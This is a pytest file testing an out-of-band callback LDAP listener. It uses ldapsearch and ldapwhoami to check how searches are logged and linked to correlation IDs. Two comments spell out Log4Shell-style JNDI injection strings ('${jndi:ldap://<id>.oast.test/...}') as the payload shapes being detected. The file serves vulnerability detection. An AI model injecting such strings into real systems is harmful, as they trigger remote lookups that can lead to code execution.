"""The OpenLDAP command-line clients against the listener, and the JNDI payload shape."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable

import pytest
from ldap_harness import CORRELATION_ID, HOST, ID, LdapHarness, auth_config

StartServer = Callable[..., LdapHarness]

pytestmark = pytest.mark.skipif(shutil.which("ldapsearch") is None, reason="ldap-utils is not installed")


def ldap_tool(server: LdapHarness, tool: str, *args: str) -> subprocess.CompletedProcess[str]:
    command = [tool, "-x", "-H", f"ldap://{HOST}:{server.port}", "-o", "nettimeout=10", *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)


def test_ldapsearch_gets_fixed_entry(ldap_server: LdapHarness) -> None:
    result = ldap_tool(ldap_server, "ldapsearch", "-b", "dc=oast,dc=test", "(cn=x)", "cn", "mail")
    assert result.returncode == 0, result.stderr
    assert "dn: cn=interactsh, dc=oast,dc=test" in result.stdout
    assert "mail: interact@s.h" in result.stdout
    assert "department: bbbb" in result.stdout
    assert "result: 0 Success" in result.stdout


def test_ldapwhoami_succeeds(ldap_server: LdapHarness) -> None:
    result = ldap_tool(ldap_server, "ldapwhoami")
    assert result.returncode == 0, result.stderr


def test_jndi_shape_recorded_unattributed(start_ldap_server: StartServer) -> None:
    # ${jndi:ldap://<id>.oast.test/a} resolves the host by DNS and then searches
    # base "a", so the LDAP server never receives the id.
    server = start_ldap_server(auth_config())
    session = server.register(CORRELATION_ID)
    result = ldap_tool(server, "ldapsearch", "-b", "a", "(objectClass=*)")
    assert result.returncode == 0, result.stderr
    assert server.poll(session) == []
    searches = [item for item in server.poll_extra() if item["raw-request"].startswith("Type=Search\n")]
    assert len(searches) == 1
    assert "BaseDn=a\n" in searches[0]["raw-request"]
    assert searches[0]["remote-address"].startswith(f"{HOST}:")


def test_jndi_id_in_path_attributed(start_ldap_server: StartServer) -> None:
    # ${jndi:ldap://<id>.oast.test/<id>} also puts the id in the base DN.
    server = start_ldap_server(auth_config())
    session = server.register(CORRELATION_ID)
    result = ldap_tool(server, "ldapsearch", "-b", ID, "(objectClass=*)")
    assert result.returncode == 0, result.stderr
    (item,) = server.poll(session)
    assert item["protocol"] == "ldap"
    assert item["unique-id"] == ID
    assert all("BaseDn=" not in extra["raw-request"] for extra in server.poll_extra())
